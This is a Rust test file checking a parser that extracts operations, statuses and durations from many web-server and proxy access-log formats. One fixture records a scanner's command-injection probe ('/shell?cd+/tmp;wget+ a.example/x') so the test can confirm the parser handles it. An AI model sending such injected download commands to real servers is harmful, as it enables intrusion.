use super::*;

fn get<'a>(fields: &'a [(String, Value)], key: &str) -> Option<&'a Value> {
    fields.iter().find(|(k, _)| k == key).map(|(_, v)| v)
}

#[test]
fn access_logs_with_what_servers_append() {
    let f = parse_combined(
        r#"10.0.0.1 - - [30/Nov/2026:14:01:02 +0000] "GET /api/products/1274?x=1 HTTP/1.1" 200 512 "-" "curl/8" 0.014 0.012 shop.example.com"#,
    )
    .unwrap();
    assert_eq!(
        get(&f, "operation"),
        Some(&Value::from("GET /api/products/{id}"))
    );
    assert_eq!(get(&f, "path"), Some(&Value::from("/api/products/1274")));
    assert_eq!(get(&f, "request_time"), Some(&Value::from(0.014)));
    assert_eq!(get(&f, "upstream_response_time"), Some(&Value::from(0.012)));
    assert_eq!(get(&f, "host"), Some(&Value::from("shop.example.com")));
    let f = parse_combined(
        r#"10.0.0.1 - - [30/Nov/2026:14:01:02 +0000] "POST /v2/orders HTTP/1.1" 503 0 "-" "k6" rt=0.250 uct="0.000" urt="-" cache=MISS"#,
    )
    .unwrap();
    assert_eq!(get(&f, "operation"), Some(&Value::from("POST /v2/orders")));
    assert_eq!(get(&f, "request_time"), Some(&Value::from(0.25)));
    assert_eq!(get(&f, "upstream_connect_time"), Some(&Value::from(0.0)));
    assert_eq!(get(&f, "upstream_response_time"), Some(&Value::Null));
    assert_eq!(get(&f, "cache"), Some(&Value::from("MISS")));
    // Varnish's `varnishncsa`: a caching proxy logs the absolute target.
    let f = parse_combined(
        r#"10.0.0.1 - - [30/Nov/2026:14:01:02 +0000] "GET http://shop.example.com/api/items/12?x=1 HTTP/1.1" 503 282 "-" "curl/8.0""#,
    )
    .unwrap();
    assert_eq!(
        get(&f, "operation"),
        Some(&Value::from("GET /api/items/{id}"))
    );
    // A virtual host and a client list before the combined fields.
    let f = parse_combined(
        r#"example.com:80 10.0.0.2, 10.0.0.1, 127.0.0.1 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Firefox/49.0""#,
    )
    .unwrap();
    assert_eq!(get(&f, "vhost"), Some(&Value::from("example.com:80")));
    assert_eq!(
        get(&f, "forwarded_for"),
        Some(&Value::from("10.0.0.2, 10.0.0.1"))
    );
    assert_eq!(get(&f, "remote_addr"), Some(&Value::from("127.0.0.1")));
    assert_eq!(get(&f, "operation"), Some(&Value::from("GET /ocelot")));
    let f = parse_combined(
        r#""10.5.102.222, 199.96.1.1" 10.2.1.185 - - [22/Jan/2016:13:18:29 +0000] "GET /a HTTP/1.1" 200 25507 "-" "Amazon CloudFront""#,
    )
    .unwrap();
    assert_eq!(get(&f, "vhost"), None);
    assert_eq!(
        get(&f, "forwarded_for"),
        Some(&Value::from("10.5.102.222, 199.96.1.1"))
    );
    let f = parse_combined(
        r#"vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0""#,
    )
    .unwrap();
    assert_eq!(get(&f, "vhost"), Some(&Value::from("vhost1.domaine.fr")));
    assert_eq!(get(&f, "forwarded_for"), None);
    // Apache's `%D` after the combined fields: whole microseconds.
    let f = parse_combined(
        r#"10.0.0.6 - - [30/Nov/2026:14:01:03 +0000] "POST /api/payments HTTP/1.1" 502 11 "-" "okhttp/4.9" 5003123"#,
    )
    .unwrap();
    assert_eq!(get(&f, "duration_us"), Some(&Value::from(5003123.0)));
    assert_eq!(get(&f, "request_time"), None);
    // Traefik's tail: a request count, the router, the backend, the duration in ms.
    let f = parse_combined(
        r#"192.168.33.1 - - [02/Oct/2017:20:22:07 +0000] "GET /ui/a.png HTTP/1.1" 304 0 "-" "curl/8" 262 "Host-host-1" "http://172.19.0.3:5601" 2ms"#,
    )
    .unwrap();
    assert_eq!(get(&f, "duration_ms"), Some(&Value::from(2.0)));
    assert_eq!(get(&f, "request_count"), Some(&Value::from(262.0)));
    assert_eq!(get(&f, "request_time"), None);
    // Any unit the duration reader knows.
    let f = parse_combined(
        r#"192.168.33.1 - - [02/Oct/2017:20:22:07 +0000] "GET /a HTTP/1.1" 200 0 "-" "curl/8" 3 "r" "http://b:80" 1.5s"#,
    )
    .unwrap();
    assert_eq!(get(&f, "duration_ms"), Some(&Value::from(1500.0)));
    // A quote left open runs to the end of the line: the request and its status stand.
    let f = parse_combined(
        r#"10.0.0.1 - - [30/Nov/2026:14:01:02 +0000] "GET / HTTP/1.1" 200 5 "-" "x" "unclosed"#,
    )
    .unwrap();
    assert_eq!(get(&f, "status"), Some(&Value::from("200")));
    assert_eq!(get(&f, "host"), Some(&Value::from("unclosed")));
}

#[test]
fn requests_logged_in_text_messages() {
    let mut f = Vec::new();
    request_in_message(
        r#"10.11.10.1 "GET /v2/54fadb412c4e40cdbaed9335e4c35a9e/servers/detail HTTP/1.1" status: 500 len: 1893 time: 0.2477829"#,
        &mut f,
    );
    assert_eq!(
        get(&f, "operation"),
        Some(&Value::from("GET /v2/{id}/servers/detail"))
    );
    assert_eq!(get(&f, "status"), Some(&Value::from("500")));
    assert_eq!(get(&f, "duration"), Some(&Value::from("0.2477829s")));
    let mut none = Vec::new();
    request_in_message("time: 5 without a request", &mut none);
    assert!(none.is_empty());
}

#[test]
fn proxies_default_access_logs() {
    let fields_of = |message: &str| {
        let mut f = Vec::new();
        request_in_message(message, &mut f);
        let text = |key| get(&f, key).map(|v| v.to_string());
        (text("operation"), text("status"), text("duration_ms"))
    };
    let some = |s: &str| Some(s.to_string());
    // AWS ALB: three times in seconds, then the load balancer's and the target's status.
    assert_eq!(
        fields_of(
            r#"app/my-lb/50dc6c495c0c9188 10.0.0.1:2817 10.0.1.5:80 0.001 0.012 0.000 502 502 34 366 "GET https://shop.example.com:443/api/orders/17?x=1 HTTP/1.1" "curl/8.0""#
        ),
        (
            some(r#""GET /api/orders/{id}""#),
            some(r#""502""#),
            some("13.0")
        )
    );
    // No target answered: `-1` times, a `-` target status; the status stands, the time is
    // unknown.
    assert_eq!(
        fields_of(
            r#"app/my-lb/50dc6c495c0c9188 10.0.0.1:2817 - -1 -1 -1 504 - 120 0 "POST https://shop.example.com:443/api/payments HTTP/1.1" "curl/8.0""#
        ),
        (some(r#""POST /api/payments""#), some(r#""504""#), None)
    );
    // A request that is not `METHOD target HTTP/x` (a space in a scanner's target, an ALB's
    // `"- http://lb:80-/ "`): the load balancer's status and time still count.
    assert_eq!(
        fields_of(
            r#"app/my-lb/3011821a43ee0c5e 10.0.0.1:41542 - -1 -1 -1 400 - 233 390 "GET http://10.0.0.9:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "-""#
        ),
        (some(r#""GET /shell""#), some(r#""400""#), None)
    );
    assert_eq!(
        fields_of(
            r#"app/my-lb/abcd1234efgh5678 10.0.0.1:57273 10.0.1.5:80 0.000 0.004 0.000 200 200 0 272 "- http://lb.example.com:80-/ " "-""#
        ),
        (None, some(r#""200""#), some("4.0"))
    );
    // A quoted text that is no request, in no proxy's layout: nothing is made of it.
    assert_eq!(
        fields_of(r#"user "a b" logged in after 3 tries 200 times"#),
        (None, None, None)
    );
    // HAProxy: TR/Tw/Tc/Tr/Ta before the status, the request last.
    assert_eq!(
        fields_of(
            r#"10.0.0.1:51234 [30/Nov/2026:14:01:02.123] fe_http be_app/web1 0/0/1/12/13 200 1234 - - ---- 1/1/0/0/0 0/0 "GET /api/orders/17 HTTP/1.1""#
        ),
        (
            some(r#""GET /api/orders/{id}""#),
            some(r#""200""#),
            some("13.0")
        )
    );
    // Envoy's default: status, flags, bytes in and out, duration in milliseconds.
    assert_eq!(
        fields_of(r#""POST /api/pay HTTP/2" 503 UF 120 91 30 - "10.0.0.2" "okhttp""#),
        (some(r#""POST /api/pay""#), some(r#""503""#), some("30.0"))
    );
    // Istio's default adds the code's details, the termination and the failure reason.
    assert_eq!(
        fields_of(
            r#""POST /api/pay HTTP/2" 503 UF upstream_reset_before_response_started{connection_failure} - "-" 120 91 30 - "-" "python-requests/2.31""#
        ),
        (some(r#""POST /api/pay""#), some(r#""503""#), some("30.0"))
    );
    assert_eq!(
        fields_of(r#""GET /a HTTP/1.1" 200 - via_upstream - "-" 0 1234 12 11 "-" "curl""#),
        (some(r#""GET /a""#), some(r#""200""#), some("12.0"))
    );
    // Amazon S3's server access log: the S3 operation, status, total time in milliseconds;
    // an error code and missing sizes are `-` or a word.
    assert_eq!(
        fields_of(
            r#"79a5 bucket-1 [30/Nov/2026:14:01:05 +0000] 192.0.2.3 79a5 891CE47D REST.GET.OBJECT photos/2026/cat.jpg "GET /bucket-1/photos/2026/cat.jpg HTTP/1.1" 404 NoSuchKey 0 - 9 - "-" "aws-cli/2.0" - Fo5x= SigV4"#
        ),
        (some(r#""REST.GET.OBJECT""#), some(r#""404""#), some("9"))
    );
    assert_eq!(
        fields_of(
            r#"79a5 bucket-1 [30/Nov/2026:14:01:02 +0000] 192.0.2.3 79a5 3E57 REST.PUT.OBJECT a/b.txt "PUT /a/b.txt HTTP/1.1" 200 - - 5120 118 34 "-" "Boto3""#
        ),
        (some(r#""REST.PUT.OBJECT""#), some(r#""200""#), some("118"))
    );
    // A status directly after the request, nothing else known.
    assert_eq!(
        fields_of(r#"10.0.0.3 "GET /health HTTP/1.1" 204 0 "-""#),
        (some(r#""GET /health""#), some(r#""204""#), None)
    );
}

#[test]
fn routes_mask_ids_and_keep_versions() {
    assert_eq!(route_template("/api/products/1274"), "/api/products/{id}");
    assert_eq!(
        route_template("/v2/54fadb412c4e40cdbaed9335e4c35a9e/servers/detail"),
        "/v2/{id}/servers/detail"
    );
    assert_eq!(
        route_template("/users/3f2b8c1e-0a4d-4e1b-9c7a-2d5e6f708192/cart"),
        "/users/{id}/cart"
    );
    assert_eq!(route_template("/oauth2/token"), "/oauth2/token");
    assert_eq!(route_template("/"), "/");
}

#[test]
fn haproxy_tcp_sessions() {
    let fields = |message: &str| {
        let mut fields = Vec::new();
        super::haproxy_tcp(message, &mut fields).then_some(fields)
    };
    let got = fields(
        "10.0.0.5:54321 [30/Nov/2026:14:01:02.123] fe_db be_db/db1 1/0/5 1234 -- 1/1/1/1/0 0/0",
    )
    .unwrap();
    let get = |name: &str| got.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone());
    assert_eq!(get("operation").unwrap(), "be_db");
    assert_eq!(get("server").unwrap(), "db1");
    assert_eq!(get("duration_ms").unwrap(), 5.0);
    assert_eq!(get("outcome").unwrap(), "ok");
    let got = fields(
        "10.0.0.5:54322 [30/Nov/2026:14:01:03.456] fe_db be_db/<NOSRV> -1/-1/0 0 SC 1/1/0/0/0 0/0",
    )
    .unwrap();
    let get = |name: &str| got.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone());
    assert_eq!(get("outcome").unwrap(), "error");
    assert_eq!(get("duration_ms").unwrap(), 0.0);
    for other in [
        "Connect from 10.0.0.5:54321 to 10.0.0.2:3306 (fe_db/TCP)",
        "10.0.0.5:54321 [30/Nov/2026:14:01:02.123] fe_db be_db/db1 1/0/5",
        "10.0.0.5:54321 [x] fe be/s a/b/c 1 --",
        "",
    ] {
        assert!(fields(other).is_none(), "{other:?}");
    }
}
